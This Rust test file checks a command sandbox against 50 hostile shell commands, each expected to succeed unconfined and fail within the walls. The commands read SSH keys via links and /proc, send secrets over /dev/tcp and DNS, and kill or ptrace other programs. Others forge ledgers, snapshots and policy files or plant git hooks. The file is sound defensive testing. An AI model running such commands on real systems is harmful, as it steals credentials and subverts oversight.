//! Hostile commands: each is run without walls, where it must get what it wants, and within them, where
//! it must not.

use nightshift::process::{Finished, Limits, Spaces};

use super::yard::{CANARY, Yard};

/// How one sees that an attack got what it wants.
enum Won {
    /// The canary is in what it wrote to its outputs.
    Said,
    /// The canary arrived outside.
    Heard,
    /// A file of the person is otherwise than it was.
    Changed(&'static str),
    /// A file is there that was not.
    Made(&'static str),
    /// The other program of the person is gone.
    Killed,
}

struct Attack {
    name: &'static str,
    line: &'static str,
    won: Won,
    /// Whether it takes spaces of one's own to hold it back.
    by_spaces: bool,
}

const fn attack(name: &'static str, line: &'static str, won: Won) -> Attack {
    Attack { name, line, won, by_spaces: false }
}

/// One that Landlock and seccomp alone do not hold back.
const fn deep(name: &'static str, line: &'static str, won: Won) -> Attack {
    Attack { name, line, won, by_spaces: true }
}

static ATTACKS: [Attack; 50] = [
    attack("read a file of the home", "cat @home/.ssh/key", Won::Said),
    attack("read it by a link", "ln -s @home/.ssh/key k; cat k", Won::Said),
    attack("read it by a link to its folder", "ln -s @home h; cat h/.ssh/key", Won::Said),
    attack("read it by a hard link", "ln @home/.ssh/key k; cat k", Won::Said),
    attack("read it by steps upwards", "cat ../../home/.ssh/key", Won::Said),
    attack("read it by the root of a process", "cat /proc/self/root@home/.ssh/key", Won::Said),
    attack("copy the home", "cp -r @home h; cat h/.ssh/key", Won::Said),
    attack("pack the home", "tar cf - -C @home . | grep -a -o @canary", Won::Said),
    attack("move a file of the home", "mv @home/.ssh/key k; cat k; cp k @home/.ssh/key", Won::Said),
    attack("read the environment of others", "tr '\\0' '\\n' < /proc/@victim/environ", Won::Said),
    attack("read by the folder of others", "cat /proc/@victim/cwd/home/.ssh/key", Won::Said),
    attack("read by the root of others", "cat /proc/@victim/root@home/.ssh/key", Won::Said),
    attack("have another program read", "find @home -name key -exec cat {} +", Won::Said),
    attack("have a script read", "python3 -c \"print(open('@home/.ssh/key').read())\"", Won::Said),
    attack(
        "change the product",
        "echo broken > @suite/shop/shop.db",
        Won::Changed("suite/shop/shop.db"),
    ),
    attack(
        "add to the product",
        "echo more >> @suite/shop/shop.db",
        Won::Changed("suite/shop/shop.db"),
    ),
    attack(
        "empty the product",
        "truncate -s 0 @suite/shop/shop.db",
        Won::Changed("suite/shop/shop.db"),
    ),
    attack("remove the product", "rm -r @suite/shop", Won::Changed("suite/shop/shop.db")),
    attack("move the product away", "mv @suite/shop/shop.db .", Won::Changed("suite/shop/shop.db")),
    attack(
        "change it by a link",
        "ln -s @suite/shop/shop.db db; echo broken > db",
        Won::Changed("suite/shop/shop.db"),
    ),
    attack(
        "change it by steps upwards",
        "echo broken > ../../suite/shop/shop.db",
        Won::Changed("suite/shop/shop.db"),
    ),
    attack(
        "put another file in its place",
        "echo broken > x; mv x @suite/shop/shop.db",
        Won::Changed("suite/shop/shop.db"),
    ),
    attack(
        "edit a check",
        "echo 'steps: []' >> @suite/scenarios/order.yaml",
        Won::Changed("suite/scenarios/order.yaml"),
    ),
    attack(
        "write a scenario",
        "echo x > @suite/scenarios/own.yaml",
        Won::Made("suite/scenarios/own.yaml"),
    ),
    attack(
        "accept a baseline",
        "echo mine > @suite/scenarios/snapshots/order@a.stdout.snap",
        Won::Changed("suite/scenarios/snapshots/order@a.stdout.snap"),
    ),
    attack(
        "accept a recording",
        "echo mine > @suite/scenarios/snapshots/order@do-buy.recording.snap",
        Won::Made("suite/scenarios/snapshots/order@do-buy.recording.snap"),
    ),
    attack(
        "switch the policy off",
        "echo 'sandbox: off' >> @suite/nightshift.yaml",
        Won::Changed("suite/nightshift.yaml"),
    ),
    attack(
        "poison a skill",
        "echo x > @suite/skills/sign-in.yaml",
        Won::Changed("suite/skills/sign-in.yaml"),
    ),
    attack(
        "forge the ledger",
        "echo '{}' >> @suite/reports/nights/n/ledger.jsonl",
        Won::Changed("suite/reports/nights/n/ledger.jsonl"),
    ),
    attack(
        "forge an answer of a person",
        "echo yes > @suite/reports/nights/n/answers.jsonl",
        Won::Made("suite/reports/nights/n/answers.jsonl"),
    ),
    attack(
        "leave a hook",
        "mkdir -p @suite/.git/hooks; echo x > @suite/.git/hooks/post-checkout",
        Won::Made("suite/.git/hooks/post-checkout"),
    ),
    attack(
        "leave something for the next login",
        "echo x >> @home/.bashrc",
        Won::Changed("home/.bashrc"),
    ),
    attack("make a folder elsewhere", "mkdir @home/mine", Won::Made("home/mine")),
    deep(
        "change who may use the product",
        "chmod 700 @suite/shop/shop.db && echo @canary",
        Won::Said,
    ),
    deep(
        "change when it was changed",
        "touch -d 2001-01-01 @suite/shop/shop.db && echo @canary",
        Won::Said,
    ),
    attack("connect to somebody", "echo @canary > @tcp", Won::Heard),
    attack(
        "connect by a script",
        "python3 -c \"import socket; socket.create_connection(('127.0.0.2', @port)).send(b'@canary')\"",
        Won::Heard,
    ),
    deep(
        "connect to the allowed port elsewhere",
        "echo @canary > /dev/tcp/127.0.0.2/@product",
        Won::Heard,
    ),
    attack("send a datagram", "echo @canary > /dev/udp/127.0.0.2/@udp", Won::Heard),
    attack(
        "ask for a name that is the secret",
        "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'\\\\x00\\\\x01\\\\x01\\\\x00\\\\x00\\\\x01\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x0f@canary\\\\x00\\\\x00\\\\x01\\\\x00\\\\x01', ('127.0.0.2', @udp))\"",
        Won::Heard,
    ),
    attack(
        "talk to a daemon by its socket",
        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('@home/docker.sock'); s.send(b'@canary')\"",
        Won::Heard,
    ),
    attack(
        "send to a daemon by half a pair",
        "python3 -c \"import socket; p=socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); p[0].sendto(b'@canary', '@home/log.sock')\"",
        Won::Heard,
    ),
    attack(
        "make a pair of raw sockets that send to anybody",
        "python3 -c \"import socket; socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW); print('@canary')\"",
        Won::Said,
    ),
    attack("kill another program", "kill -9 @victim", Won::Killed),
    attack(
        "lower what another program may take",
        "python3 -c \"import resource; resource.prlimit(@victim, resource.RLIMIT_NOFILE, (16, 16)); print('@canary')\"",
        Won::Said,
    ),
    attack(
        "take another program over",
        "python3 -c \"import ctypes; print('@canary' if ctypes.CDLL(None).ptrace(0x4206, @victim, 0, 0) == 0 else 'no')\"",
        Won::Said,
    ),
    attack("get spaces in which one is root", "unshare -U true && echo @canary", Won::Said),
    attack(
        "ask the kernel without a filter",
        "python3 -c \"import ctypes; print('@canary' if ctypes.CDLL(None).syscall(425, 1, ctypes.create_string_buffer(128)) >= 0 else 'no')\"",
        Won::Said,
    ),
    attack("leave the folders behind", "cd / && echo @canary > @home/out", Won::Made("home/out")),
    attack("run what one wrote elsewhere", "cp /bin/true @home/tool && echo @canary", Won::Said),
];

pub fn names() -> Vec<String> {
    ATTACKS.iter().map(|it| it.name.to_owned()).collect()
}

/// So often is looked for what must show; it is there long before on any machine.
const MUST_SHOW: u32 = 5_000;
/// The same of what must not.
const MUST_NOT: u32 = 50;

/// Whether an attack got what it wants; waits for what is on its way outside, so often.
async fn has_won(
    attack: &Attack,
    yard: &mut Yard,
    (before, looks): (&str, u32),
    done: &Finished,
) -> bool {
    let is_heard = |yard: &Yard| yard.outside.heard().iter().any(|it| it.contains(CANARY));
    match &attack.won {
        Won::Said => String::from_utf8_lossy(&done.stdout.bytes).contains(CANARY),
        Won::Heard => soon(looks, || is_heard(yard)).await,
        Won::Changed(name) => yard.read(name) != before,
        Won::Made(name) => yard.path(name).exists(),
        Won::Killed => soon(looks, || yard.victim.try_wait().expect("a child").is_some()).await,
    }
}

/// Whether something that a command did shows on this machine; there are 4 ms between two looks.
async fn soon(looks: u32, mut shows: impl FnMut() -> bool) -> bool {
    for _ in 0..looks {
        if shows() {
            return true;
        }
        tokio::time::sleep(std::time::Duration::from_millis(4)).await;
    }
    false
}

/// What stands around an attack.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Around {
    Nothing,
    /// Landlock and seccomp, as where a machine gives no namespaces.
    TheLeast,
    /// All that this machine has.
    All,
}

/// Whether an attack got what it wants; `None` where what stands around it is not meant to hold it, or
/// is not there.
async fn tried(attack: &Attack, around: Around) -> Option<(bool, Finished)> {
    let mut yard = Yard::new();
    let (walls, relays) = match around {
        Around::Nothing => (None, None),
        Around::All => yard.walls(Limits::default()).unzip(),
        Around::TheLeast => (Some(yard.least(Limits::default())?), None),
    };
    let held = walls.as_ref().map(|it| it.spaces);
    if around != Around::Nothing
        && (held.is_none() || (attack.by_spaces && held == Some(Spaces::Shared)))
    {
        return None;
    }
    let before = match attack.won {
        Won::Changed(name) => yard.read(name),
        _ => String::new(),
    };
    yard.outside.forget();
    let done = yard.attack(attack.line, walls).await;
    let looks = match around {
        Around::Nothing => MUST_SHOW,
        Around::TheLeast | Around::All => MUST_NOT,
    };
    let won = has_won(attack, &mut yard, (before.as_str(), looks), &done).await;
    drop(relays);
    Some((won, done))
}

/// The attacks that went otherwise than they should, in words.
async fn wrong(around: Around) -> Vec<String> {
    let mut wrong = Vec::new();
    for attack in &ATTACKS {
        let Some((won, done)) = tried(attack, around).await else { continue };
        if won != (around == Around::Nothing) {
            let said = |it: &[u8]| String::from_utf8_lossy(it).into_owned();
            let (out, err) = (said(&done.stdout.bytes), said(&done.stderr.bytes));
            wrong.push(format!("{}: {:?}\n{out}\n{err}", attack.name, done.exit));
        }
    }
    wrong
}

#[tokio::test]
async fn within_the_walls_no_command_gets_anything() {
    let won = wrong(Around::All).await;
    assert!(won.is_empty(), "{} got through:\n{}", won.len(), won.join("\n"));
}

#[tokio::test]
async fn landlock_and_seccomp_alone_hold_all_but_what_takes_namespaces() {
    let won = wrong(Around::TheLeast).await;
    assert!(won.is_empty(), "{} got through:\n{}", won.len(), won.join("\n"));
}

#[tokio::test]
async fn without_walls_each_of_them_gets_what_it_wants() {
    let lost = wrong(Around::Nothing).await;
    assert!(lost.is_empty(), "{} are no attacks:\n{}", lost.len(), lost.join("\n"));
}

/// Walls behind which nothing works would hold back everything too.
#[tokio::test]
async fn an_honest_command_works_within_the_walls() {
    let yard = Yard::new();
    let Some((walls, relays)) = yard.walls(Limits::default()) else { return };
    let line = "set -e; echo a > file; mkdir folder; mv file folder/b; cat folder/b @suite/shop/shop.db; \
        echo t > \"$TMPDIR/t\"; echo h > \"$HOME/h\"; ls /usr/bin > /dev/null; \
        python3 -c 'import json, threading; t = threading.Thread(target=print, args=(\"thread\",)); t.start(); t.join()'; \
        exec 3<> /dev/tcp/127.0.0.1/@product; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; tail -n 1 <&3; exit 7";
    let done = yard.attack(line, Some(walls)).await;
    let said = String::from_utf8_lossy(&done.stdout.bytes).into_owned();
    let wrong = String::from_utf8_lossy(&done.stderr.bytes).into_owned();
    assert_eq!(said, "a\nsound\nthread\nok", "{wrong}");
    assert_eq!(done.exit, Some(nightshift::process::Exit::Code(7)), "{wrong}");
    drop(relays);
}

/// How it ends is told as without walls.
#[tokio::test]
async fn a_signal_that_ends_a_confined_command_is_told() {
    let yard = Yard::new();
    let Some((walls, relays)) = yard.walls(Limits::default()) else { return };
    let done = yard.attack("kill -9 $$", Some(walls)).await;
    assert_eq!(done.exit, Some(nightshift::process::Exit::Signal(9)), "{done:?}");
    drop(relays);
}
